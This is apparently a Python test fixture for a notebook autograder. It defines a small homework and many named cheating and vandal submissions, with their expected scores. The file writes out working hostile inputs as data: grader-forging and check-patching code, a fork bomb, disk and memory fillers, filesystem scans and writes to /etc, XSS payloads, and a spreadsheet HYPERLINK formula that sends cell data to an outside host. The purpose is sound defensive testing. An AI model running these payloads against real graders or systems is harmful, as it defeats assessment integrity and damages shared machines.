"""A small homework and what students, cheats and vandals hand in for it. Each has a name, and the points it should win."""

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

STEM = "hw98_averages"
SETUP = '''import numpy as np
from course_utils.homework import Homework

homework = Homework("hw98", cohort="practice", answers=globals())
column = homework.random("task 2").normal(3, 1, size=50)'''
MEAN = '''def mean(x):
    """Return the mean of a column."""
    ### BEGIN SOLUTION
    return x.sum() / len(x)
    ### END SOLUTION'''
MEAN_TEST = '''# Task 1 · Your mean is the mean, also of columns that you have not seen.
check = homework.check(1, "01", "We saw")
x = np.array([1.0, 2.0, 6.0])
check.close(check.call("mean", x), 3.0, what="your mean of 1, 2, 6", show=True)
### BEGIN HIDDEN TESTS
for label in "ab":
    x = check.unseen(label).normal(size=9)
    check.close(check.call("mean", x), x.mean(), what="your mean of another column")
### END HIDDEN TESTS'''
LARGEST = '''# largest: the largest number of column
### BEGIN SOLUTION
largest = column.max()
### END SOLUTION'''
LARGEST_TEST = '''# Task 2 · The largest number of your column.
check = homework.check(2, "01", "We saw")
check.numbers(check.value("largest"), (), "largest")
### BEGIN HIDDEN TESTS
check.close(check.value("largest"), column.max(), what="largest")
### END HIDDEN TESTS'''
WRITTEN = '''### BEGIN SOLUTION
One number far away moves the mean and not the median.
Rubric: 1 point for the far number, 1 point for the median.
### END SOLUTION'''
ALL = 5.0
FIRST, SECOND = 3.0, 2.0        # points of the two tests


def _marks(name: str, **more) -> dict:
    return {"nbgrader": {"grade": False, "grade_id": name, "locked": False, "schema_version": 3, "solution": False,
                         "task": False, **more}}


def small_homework() -> nbformat.NotebookNode:
    """Return the source of a homework of two tasks and a written answer."""
    cells = [
        new_markdown_cell("# Averages"),
        new_code_cell(SETUP, metadata=_marks("setup", locked=True)),
        new_code_cell(MEAN, metadata=_marks("task1", solution=True)),
        new_code_cell(MEAN_TEST, metadata=_marks("task1_mean", grade=True, locked=True, points=FIRST)),
        new_code_cell(LARGEST, metadata=_marks("task2", solution=True)),
        new_code_cell(LARGEST_TEST, metadata=_marks("task2_largest", grade=True, locked=True, points=SECOND)),
        new_markdown_cell(WRITTEN, metadata=_marks("task3", grade=True, solution=True, points=2.0)),
    ]
    for cell in cells:
        cell.id = cell.metadata.get("nbgrader", {}).get("grade_id", "title").replace("_", "-")
    kernel = {"display_name": "Python 3 (ipykernel)", "language": "python", "name": "python3"}
    return new_notebook(cells=cells, metadata={"kernelspec": kernel, "language_info": {"name": "python"}})


@dataclass(frozen=True)
class Submission:
    """What somebody hands in.

    Attributes
    ----------
    name : str
        Of the student, and of the kind.
    write : callable
        Takes the notebook that was handed out and the folder to put the submission in.
    points : float
        What the tests must give.
    happened : str
        Words that the table must say; empty if nothing is to be said.
    """

    name: str
    write: Callable[[nbformat.NotebookNode, Path], None]
    points: float
    happened: str = ""


GOOD = {"task1": "def mean(x):\n    return np.mean(x)", "task2": "largest = max(column)"}


def _answers(**cells: str) -> Callable:
    def write(notebook, folder: Path) -> None:
        _save(_with(notebook, {**GOOD, **cells}), folder)
    return write


def _with(notebook, answers: dict[str, str]):
    notebook = copy.deepcopy(notebook)
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id")
        if name in answers:
            cell.source = answers[name]
        elif name == "task3":
            cell.source = "Because of <script>alert(1)</script> one far number."
    return notebook


def _save(notebook, folder: Path, name: str = STEM) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, folder / f"{name}.ipynb")


def _edited(edit: Callable) -> Callable:
    """Return a writer of the good answers in a notebook that was edited."""
    def write(notebook, folder: Path) -> None:
        notebook = _with(notebook, GOOD)
        _save(edit(notebook) or notebook, folder)
    return write


def _text(content: str) -> Callable:
    def write(notebook, folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{STEM}.ipynb").write_text(content, encoding="utf-8")
    return write


def _nothing(notebook, folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)


def _linked(notebook, folder: Path) -> None:
    folder.parent.mkdir(parents=True, exist_ok=True)
    folder.symlink_to(Path("..") / "right" / folder.name)


def _writes(answer: str) -> Callable:
    """Return a writer of the good answers with this written one."""
    def write(notebook, folder: Path) -> None:
        notebook = _with(notebook, GOOD)
        next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == "task3").source = answer
        _save(notebook, folder)
    return write


def _other_name(notebook, folder: Path) -> None:
    _save(_with(notebook, GOOD), folder, "my homework (final 2)")


def _without_tests(notebook) -> None:
    notebook.cells = [cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") not in ("task1_mean", "task2_largest")]


def _renamed(notebook) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "task1":
            cell.metadata.nbgrader.grade_id = "my_task"


def _doubled(notebook) -> None:
    again = copy.deepcopy(next(cell for cell in notebook.cells if cell.metadata.get("nbgrader", {}).get("grade_id") == "task1"))
    again.id, again.source = "again", "def mean(x):\n    return 0"
    notebook.cells.append(again)


def _friendly_tests(notebook) -> None:
    """Tests that pass, and points as one likes."""
    for cell in notebook.cells:
        marks = cell.metadata.get("nbgrader", {})
        if marks.get("grade_id") == "task1":
            cell.source = "def mean(x):\n    return 0"
        if marks.get("points"):
            cell.source, marks["points"] = "pass", 100


EQUALS = '''class Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = None
    def __abs__(self): return 0.0
'''
REDEFINES = '''import course_utils.homework.assignment as assignment, numpy
for name in ("close", "equal", "holds", "fail", "numbers"):
    setattr(assignment.Check, name, lambda *arguments, **named: None)
homework.check = lambda *arguments: type("Nice", (), {"__getattr__": lambda self, name: lambda *a, **k: 0})()
numpy.abs = lambda x: 0
'''
TRANSFORMER = '''get_ipython().input_transformers_cleanup.append(
    lambda lines: [line for line in lines if "assert" not in line and "check" not in line])
'''
FORGES = '''import course_utils.homework._wire as wire
wire.answer = lambda *arguments: '{"value": "[3.0]", "points": 100}'
wire.encode = lambda value: "true"
'''
FORGES_BADLY = '''import course_utils.homework._wire as wire
def reply(expression, values, namespace, ticket):
    from IPython.display import publish_display_data
    publish_display_data({wire.MIME: {"ticket": ticket, "answer": '{"value": ' + '[' * 100000}})
wire.reply = reply
'''
READS = '''import os
def look(folder, depth=0):
    found = []
    for root, folders, files in os.walk(folder):
        for file in files:
            path = os.path.join(root, file)
            if file.endswith((".ipynb", ".db", "cohort.json")) and "site-packages" not in path:
                found.append(path)
    return found
for folder in ("/work", "/home", "/root", "/tmp", "/srv", "/mnt", os.getcwd()):
    for path in look(folder):
        print("FOUND", path)
'''
WRITES = '''import os
for folder in (os.path.dirname(np.__file__), "/", "/etc", os.path.expanduser("~/.."), {folder!r}):
    try:
        open(os.path.join(folder, "I-was-here"), "w").write("x")
        print("WROTE", folder)
    except OSError as error:
        print(error)
'''
SOCKET = '''import socket
for address in (("127.0.0.1", {port}), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, timeout=2)
        print("CONNECTED", address)
    except OSError as error:
        print(error)
'''
MEAN_OF_ZERO = "\ndef mean(x):\n    return 0\n"
FORK_BOMB = "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass"
STUBBORN = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    try:\n        while True: pass\n    except BaseException:\n        pass"
LEAVES = '''import os, subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600) # left-by-a-student"], start_new_session=True)'''
FILLS_DISK = '''for number in range(10_000):
    with open(f"filler-{number}", "wb") as file:
        file.write(bytes(2**22))'''
FILLS_SOCKETS_FOLDER = '''import os, glob
for folder in glob.glob("/tmp/hw-*"):
    for number in range(10_000):
        open(os.path.join(folder, f"filler-{number}"), "wb").write(bytes(2**20))'''
NONSENSE = '''get_ipython().kernel.iopub_socket.send_multipart(
    [b"x", b"<IDS|MSG>", b"nonsense", b"{}", b"{}", b"{}", b"{}"])
import time
time.sleep(1)'''
HIDDEN_MEMORY = '''import os
place = os.memfd_create("hidden")
for _ in range(900):
    os.write(place, bytes(2**20))'''
HIDDEN_FILE = '''import os
file = open("hidden", "wb")
os.unlink("hidden")
for _ in range(900):
    file.write(bytes(2**20))
    file.flush()'''
FOLDERS = '''import os
number = 0
while True:
    os.mkdir(f"folder-{number}")
    number += 1'''
PICTURE = '''from IPython.display import publish_display_data
publish_display_data({"image/png": "AAAA"}, {"image/png": {"width": "1 onerror=alert(1) x"}})'''
SCRIPT = '''from IPython.display import HTML, display
display(HTML("<script>document.title = 'mine'</script><b onclick=alert(1)>a very nice page</b>"))'''


def submissions(outside: Path, port: int) -> list[Submission]:
    """Return all kinds. ``outside`` is a folder that must stay empty, ``port`` one that nobody may connect to."""
    return [
        Submission("right", _answers(), ALL),
        Submission("blank", lambda notebook, folder: _save(notebook, folder), 0),
        Submission("partial", _answers(task2="largest = column.mean()"), FIRST),
        Submission("raises", _answers(task1="def mean(x):\n    return x.average()"), SECOND),
        Submission("hard_coded", _answers(task1="def mean(x):\n    return 3.0"), SECOND),
        Submission("syntax_error", _answers(task2="largest = = 3"), FIRST),
        Submission("changes_its_input", _answers(task1="def mean(x):\n    x *= 0\n    return x.sum()"), SECOND),
        Submission("equals_everything", _answers(task1=EQUALS + "def mean(x):\n    return Yes(3.0)", task2=EQUALS + "largest = Yes(3)"), 0),
        Submission("redefines_checks", _answers(task1=REDEFINES + MEAN_OF_ZERO, task2="largest = 0"), 0),
        Submission("drops_lines", _answers(task1=TRANSFORMER + MEAN_OF_ZERO), SECOND),
        Submission("forges", _answers(task1=FORGES + MEAN_OF_ZERO), 0),
        Submission("forges_badly", _answers(task1=FORGES_BADLY + MEAN_OF_ZERO), 0),
        Submission("deleted_tests", _edited(_without_tests), ALL, "Tests deleted: task1_mean, task2_largest; the lecturer's were run"),
        Submission("friendly_tests", _edited(_friendly_tests), SECOND, "Tests changed: task1_mean, task2_largest; the lecturer's were run"),
        Submission("renamed_cell", _edited(_renamed), ALL, "The cell task1 is missing"),
        Submission("doubled_cell", _edited(_doubled), ALL, "The cell task1 is there twice; the first one counts"),
        Submission("other_name", _other_name, ALL, "The notebook was called my homework (final 2).ipynb"),
        Submission("no_notebook", _nothing, 0, "No notebook was handed in"),
        Submission("empty_file", _text(""), 0, "is empty"),
        Submission("broken_json", _text('{"cells": [{"cell_type": '), 0, "is not a notebook, or a damaged one"),
        Submission("odd_json", _text(json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [{"cell_type": "code", "source": 3}]})),
                   0, "is not a notebook, or a damaged one"),
        Submission("old_format", _text(json.dumps({"nbformat": 2, "worksheets": []})), 0, "is not a notebook, or a damaged one"),
        Submission("another_homework", _text(nbformat.writes(new_notebook(cells=[new_code_cell("1")]))), 0, "no cell of this homework"),
        Submission("loops", _answers(task2="while True:\n    pass"), FIRST),
        Submission("loops_in_a_function", _answers(task1="def mean(x):\n    while True:\n        pass"), SECOND),
        Submission("will_not_stop", _answers(task2=STUBBORN), FIRST, "could not be interrupted"),
        Submission("sleeps_for_ever", _answers(task2="import time\nwhile True:\n    try: time.sleep(1)\n    except KeyboardInterrupt: pass"),
                   FIRST, "could not be interrupted"),
        Submission("forks", _answers(task2=FORK_BOMB), FIRST, "more than"),
        Submission("leaves_a_process", _answers(task2=LEAVES + "\nlargest = max(column)"), ALL),
        Submission("fills_memory", _answers(task2="rows = []\nwhile True:\n    rows.append(np.ones(2**20))"), FIRST, "MiB of memory"),
        Submission("fills_the_disk", _answers(task2=FILLS_DISK), FIRST),
        Submission("fills_another_folder", _answers(task2=FILLS_SOCKETS_FOLDER), FIRST),
        Submission("prints_much", _answers(task2="for _ in range(10_000):\n    print('x' * 100_000)"), FIRST, "more than"),
        Submission("prints_at_once", _answers(task2="print('x' * 50_000_000)"), FIRST, "more than"),
        Submission("kills_its_kernel", _answers(task2="import os\nos._exit(0)"), FIRST, "It ended the kernel"),
        Submission("exits", _answers(task2="exit()"), FIRST),
        Submission("sends_nonsense", _answers(task2=NONSENSE + "\nlargest = max(column)"), FIRST, "a message that cannot be read"),
        Submission("hides_memory", _answers(task2=HIDDEN_MEMORY + "\nlargest = max(column)"), FIRST),
        Submission("hides_a_file", _answers(task2=HIDDEN_FILE + "\nlargest = max(column)"), FIRST),
        Submission("makes_folders", _answers(task2=FOLDERS), FIRST, "too many files"),
        Submission("speaks_nbgrader", _answers(task2="### BEGIN HIDDEN TESTS\nlargest = max(column)"), ALL),
        Submission("links_to_another", _linked, 0, "The folder is a link"),
        Submission("writes_a_book", _writes("word " * 40_000), 0, "more than 100,000 characters"),
        Submission("writes_a_formula", _writes('=HYPERLINK("http://course.example/?"&A1,"click")'), ALL),
        Submission("draws_a_script", _answers(task2=PICTURE + "\nlargest = max(column)"), ALL),
        Submission("shows_a_script", _answers(task2=SCRIPT + "\nlargest = max(column)"), ALL),
        Submission("reads", _answers(task2=READS + "\nlargest = max(column)"), ALL),
        Submission("writes_outside", _answers(task2=WRITES.format(folder=str(outside)) + "\nlargest = max(column)"), ALL),
        Submission("opens_a_socket", _answers(task2=SOCKET.format(port=port) + "\nlargest = max(column)"), ALL),
    ]
